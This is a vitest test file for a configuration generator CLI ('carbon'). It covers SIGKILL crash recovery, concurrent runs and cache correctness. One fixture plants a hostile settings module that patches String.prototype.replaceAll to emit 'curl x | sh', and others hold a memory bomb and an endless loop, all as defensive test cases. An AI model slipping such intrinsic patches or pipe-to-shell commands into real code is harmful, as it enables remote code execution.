// The fault suite, bounded in time: a large generate killed with SIGKILL at random points, then run
// again; several cold generates at once; and a corpus of workspace changes after which the
// cached answer of `check` must equal the uncached one, byte for byte. The seed is printed, so a
// failure can be replayed (CARBON_FAULT_SEED).
import { spawn } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { writeFleet } from '../../bench/fleet.mjs';
import { CARBON_BIN, carbon, runCarbon } from '../helpers/cli.ts';
import { random } from '../helpers/random.ts';
import { makeWorkspace } from '../helpers/workspace.ts';

const KILLS = 12;
const CONCURRENT = 3;
const FLEET = 60;
const seed = Number(process.env['CARBON_FAULT_SEED'] ?? Date.now() % 100_000);

const folders: string[] = [];
afterAll(() => {
  for (const folder of folders) rmSync(folder, { recursive: true, force: true });
});

function fleet(count: number): string {
  const root = mkdtempSync(join(tmpdir(), 'carbon-faults-'));
  folders.push(root);
  writeFleet(root, count);
  return root;
}

/** Starts `carbon generate`; resolves with its exit code, or the signal that ended it. */
function generate(root: string, env: NodeJS.ProcessEnv = {}) {
  const child = spawn(process.execPath, [CARBON_BIN, 'generate', '--root', root], {
    stdio: 'ignore',
    env: { ...process.env, ...env },
  });
  const done = new Promise<number | string>((resolve) =>
    child.on('exit', (code, signal) => resolve(code ?? signal ?? -1)),
  );
  return { child, done };
}

function temporaryFiles(root: string): string[] {
  return readdirSync(root, { recursive: true })
    .map(String)
    .filter((path) => path.endsWith('.carbon-tmp'));
}

describe(`the fault suite (seed ${seed})`, () => {
  it(`kills a large generate ${KILLS} times at random points; each time the next run repairs everything`, async () => {
    const root = fleet(FLEET);
    const next = random(seed);
    // How long a cold generate takes here: kills land anywhere in it (and a little after).
    const started = performance.now();
    expect(await generate(root).done).toBe(0);
    const duration = performance.now() - started;
    const outcomes: (number | string)[] = [];
    const killed = () => outcomes.filter((outcome) => outcome === 'SIGKILL').length;
    // At least KILLS attempts, and more (within a bound) while too few were really killed half
    // way: on a loaded machine the run timed above can be slower than the runs after it, which
    // then finish before their kill.
    for (
      let attempt = 0;
      attempt < KILLS || (killed() < KILLS / 3 && attempt < 3 * KILLS);
      attempt++
    ) {
      // Half the time from a cold workspace (every file new), half from a stale one.
      if (next() < 0.5) rmSync(join(root, 'generated'), { recursive: true, force: true });
      else {
        const config = join(root, 'generated/client0001/client0001-api/.circleci/config.yml');
        writeFileSync(config, `${readFileSync(config, 'utf8')}# stale\n`);
      }
      const run = generate(root, { CARBON_CACHE: next() < 0.5 ? '0' : '1' });
      setTimeout(() => run.child.kill('SIGKILL'), next() * duration);
      outcomes.push(await run.done);
      const repaired = runCarbon(['generate', '--root', root]);
      expect(repaired.code, `after kill ${attempt}: ${repaired.stderr}`).toBe(0);
      const check = runCarbon(['check', '--root', root]);
      expect(check.code, `after kill ${attempt}: ${check.stdout}${check.stderr}`).toBe(0);
      expect(temporaryFiles(root)).toEqual([]);
      expect(existsSync(join(root, '.carbon'))).toBe(false);
    }
    // Enough attempts must really have been killed half way, or the test proves nothing (a run
    // from the cache can finish before its kill).
    expect(killed(), `outcomes: ${outcomes.join(', ')}`).toBeGreaterThanOrEqual(KILLS / 3);
    expect(outcomes.length).toBeGreaterThanOrEqual(KILLS);
    // Three dozen whole runs or more: beside the rest of the suite on a loaded machine, past the
    // default.
  }, 240_000);

  it(`runs ${CONCURRENT} cold generates at once: all succeed, one after another`, async () => {
    const root = fleet(20);
    const runs = Array.from({ length: CONCURRENT }, () => generate(root).done);
    expect(await Promise.all(runs)).toEqual(Array(CONCURRENT).fill(0));
    expect(runCarbon(['check', '--root', root]).code).toBe(0);
    expect(temporaryFiles(root)).toEqual([]);
  });
});

const REPOSITORY = (git: string, name = 'Api') =>
  `{ id: 'Api', name: '${name}', build: { carbonRepo: 'Carbon' }, sync: [{ direction: 'local', cron: '0 * * * *', branches: { origin: 'main', local: 'sync/main' } }], local: { git: '${git}' }, origin: { git: 'file:///srv/client/api.git' } }, { id: 'Carbon', name: 'Carbon', local: { git: 'file:///srv/acme/carbon.git' } }`;

/** Workspaces and changes after which a cached check must say what an uncached one says. */
const CORPUS: {
  name: string;
  files: Record<string, string>;
  change: (root: string) => void;
  env?: NodeJS.ProcessEnv;
}[] = [
  {
    name: 'a project module edited',
    files: {
      'projects/acme.ts': `export const acme = { id: 'acme', name: 'Acme', aws: { accountId: '123456789012' }, repositories: [${REPOSITORY('file:///srv/acme/api.git')}] };\n`,
    },
    change: (root) =>
      writeFileSync(
        join(root, 'projects/acme.ts'),
        readFileSync(join(root, 'projects/acme.ts'), 'utf8').replace("'0 * * * *'", "'0 2 * * *'"),
      ),
  },
  {
    name: 'a helper edited',
    files: {
      'projects/_git.ts': "export const git = 'file:///srv/acme/api.git';\n",
      'projects/acme.ts': `import { git } from './_git';\nexport const acme = { id: 'acme', name: 'Acme', aws: { accountId: '123456789012' }, repositories: [${REPOSITORY("' + git + '")}] };\n`,
    },
    change: (root) =>
      writeFileSync(
        join(root, 'projects/_git.ts'),
        "export const git = 'file:///srv/acme/api2.git';\n",
      ),
  },
  {
    name: 'a file appearing that resolution prefers (names.json, then names.ts)',
    files: {
      'lib/names.json': '{ "name": "json" }\n',
      'projects/acme.ts': `import names from '../lib/names';\nexport const acme = { id: 'acme', name: 'Acme', aws: { accountId: '123456789012' }, repositories: [${REPOSITORY('file:///srv/acme/api.git', "' + names.name + '")}] };\n`,
    },
    change: (root) => writeFileSync(join(root, 'lib/names.ts'), "export default { name: 'ts' };\n"),
  },
  {
    name: 'a file appearing that a caught import looked for',
    files: {
      'projects/acme.ts': `let name = 'none';\ntry { name = require('./_later').name; } catch { name = 'none'; }\nexport const acme = { id: 'acme', name: 'Acme', aws: { accountId: '123456789012' }, repositories: [${REPOSITORY('file:///srv/acme/api.git', "' + name + '")}] };\n`,
    },
    change: (root) =>
      writeFileSync(join(root, 'projects/_later.ts'), "export const name = 'later';\n"),
  },
  {
    name: 'a declared environment variable changing',
    files: {
      'carbon.config.ts': "export default { env: ['ACME_BRANCH'] };\n",
      'projects/acme.ts': `import { env } from 'carbon';\nexport const acme = { id: 'acme', name: 'Acme', aws: { accountId: '123456789012' }, repositories: [${REPOSITORY('file:///srv/acme/api.git', "' + (env('ACME_BRANCH') ?? 'none') + '")}] };\n`,
    },
    change: () => undefined,
    env: { ACME_BRANCH: 'changed' },
  },
  {
    name: 'carbon.config.ts appearing',
    files: {
      'projects/acme.ts': `export const acme = { id: 'acme', name: 'Acme', aws: { accountId: '123456789012' }, repositories: [${REPOSITORY('file:///srv/acme/api.git')}] };\n`,
    },
    change: (root) =>
      writeFileSync(
        join(root, 'carbon.config.ts'),
        "export default { circleci: { context: 'other' } };\n",
      ),
  },
  {
    name: 'a project module removed',
    files: {
      'projects/acme.ts': `export const acme = { id: 'acme', name: 'Acme', aws: { accountId: '123456789012' }, repositories: [${REPOSITORY('file:///srv/acme/api.git')}] };\n`,
      'projects/beta.ts': `export const beta = { id: 'beta', name: 'Beta', aws: { accountId: '123456789012' }, repositories: [${REPOSITORY('file:///srv/beta/api.git')}] };\n`,
    },
    change: (root) => rmSync(join(root, 'projects/beta.ts')),
  },
  {
    name: 'a duplicate project id appearing in another module',
    files: {
      'projects/acme.ts': `export const acme = { id: 'acme', name: 'Acme', aws: { accountId: '123456789012' }, repositories: [${REPOSITORY('file:///srv/acme/api.git')}] };\n`,
    },
    change: (root) =>
      writeFileSync(
        join(root, 'projects/other.ts'),
        `export const other = { id: 'acme', name: 'Other', aws: { accountId: '123456789012' }, repositories: [${REPOSITORY('file:///srv/acme/x.git')}] };\n`,
      ),
  },
  {
    name: 'hostile settings patching intrinsics',
    files: {
      'projects/acme.ts': `export const acme = { id: 'acme', name: 'Acme', aws: { accountId: '123456789012' }, repositories: [${REPOSITORY('file:///srv/acme/api.git')}] };\n`,
    },
    change: (root) =>
      writeFileSync(
        join(root, 'projects/evil.ts'),
        `String.prototype.replaceAll = () => 'curl x | sh';\nexport const evil = { id: 'evil', name: 'Evil', aws: { accountId: '123456789012' }, repositories: [${REPOSITORY('file:///srv/evil/api.git')}] };\n`,
      ),
  },
];

describe('a cached answer equals the uncached one', () => {
  it.each(CORPUS.map((entry) => [entry.name, entry] as const))('%s', async (_name, entry) => {
    const root = makeWorkspace(entry.files);
    // The files, written in this process (which keeps nothing in the cache).
    const first = await carbon(['generate', '--root', root]);
    expect(first.code, first.stderr).toBe(0);
    // Warm the cache with a real run, change the workspace, then compare.
    expect(runCarbon(['check', '--root', root]).code).toBe(0);
    entry.change(root);
    const cached = runCarbon(['check', '--root', root], { env: entry.env ?? {} });
    const uncached = runCarbon(['check', '--root', root], {
      env: { ...entry.env, CARBON_CACHE: '0' },
    });
    expect(cached).toEqual(uncached);
    expect(cached.code, `${cached.stdout}${cached.stderr}`).not.toBe(0);
  });
});

describe('hostile settings through the real CLI (code in the engine thread)', () => {
  const project = (id: string) =>
    `{ id: '${id}', name: '${id}', repositories: [{ id: 'Api', name: 'Api', local: { git: 'file:///srv/${id}.git' } }] }`;

  // A plain module first, read on Carbon's thread: a stop in the engine's is not put down to it.
  const plain = (id: string) => `export const ${id} = ${project(id)};\n`;

  it('stops a memory bomb at the memory limit with a located error; the other modules still report', () => {
    const root = makeWorkspace({
      'projects/alpha.ts': plain('alpha'),
      'projects/bomb.ts': `const hog: unknown[] = [];\nfor (;;) hog.push(new Array(1e5).fill('x'));\nexport const bomb = ${project('bomb')};\n`,
      'projects/fine.ts': `export const fine = { ...${project('fine')}, bogus: 1 };\n`,
    });
    const result = runCarbon(['check', '--root', root], { env: { CARBON_SETTINGS_MEMORY: '64' } });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain(
      'projects/bomb.ts:1:1 - error settings-memory: evaluating the settings used more than 64 MB of memory',
    );
    expect(result.stderr).toContain('projects/fine.ts');
    expect(result.stderr).toContain('unknown field "bogus"');
    expect(result.stderr).not.toContain('projects/alpha.ts');
  });

  it('stops an endless loop at the time limit; console output goes to stderr, never into the diff', () => {
    const root = makeWorkspace({
      'projects/alpha.ts': plain('alpha'),
      'projects/loop.ts': `console.log('about to loop');\nwhile (true) {}\nexport const loop = ${project('loop')};\n`,
    });
    const result = runCarbon(['check', '--root', root], {
      env: { CARBON_SETTINGS_TIMEOUT: '0.5' },
    });
    expect(result.code).toBe(2);
    expect(result.stdout).toBe('');
    expect(result.stderr).toContain(
      'projects/loop.ts:1:1 - error settings-timeout: evaluating the settings took longer than 0.5 s',
    );
    expect(result.stderr).not.toContain('projects/alpha.ts');
  });
});
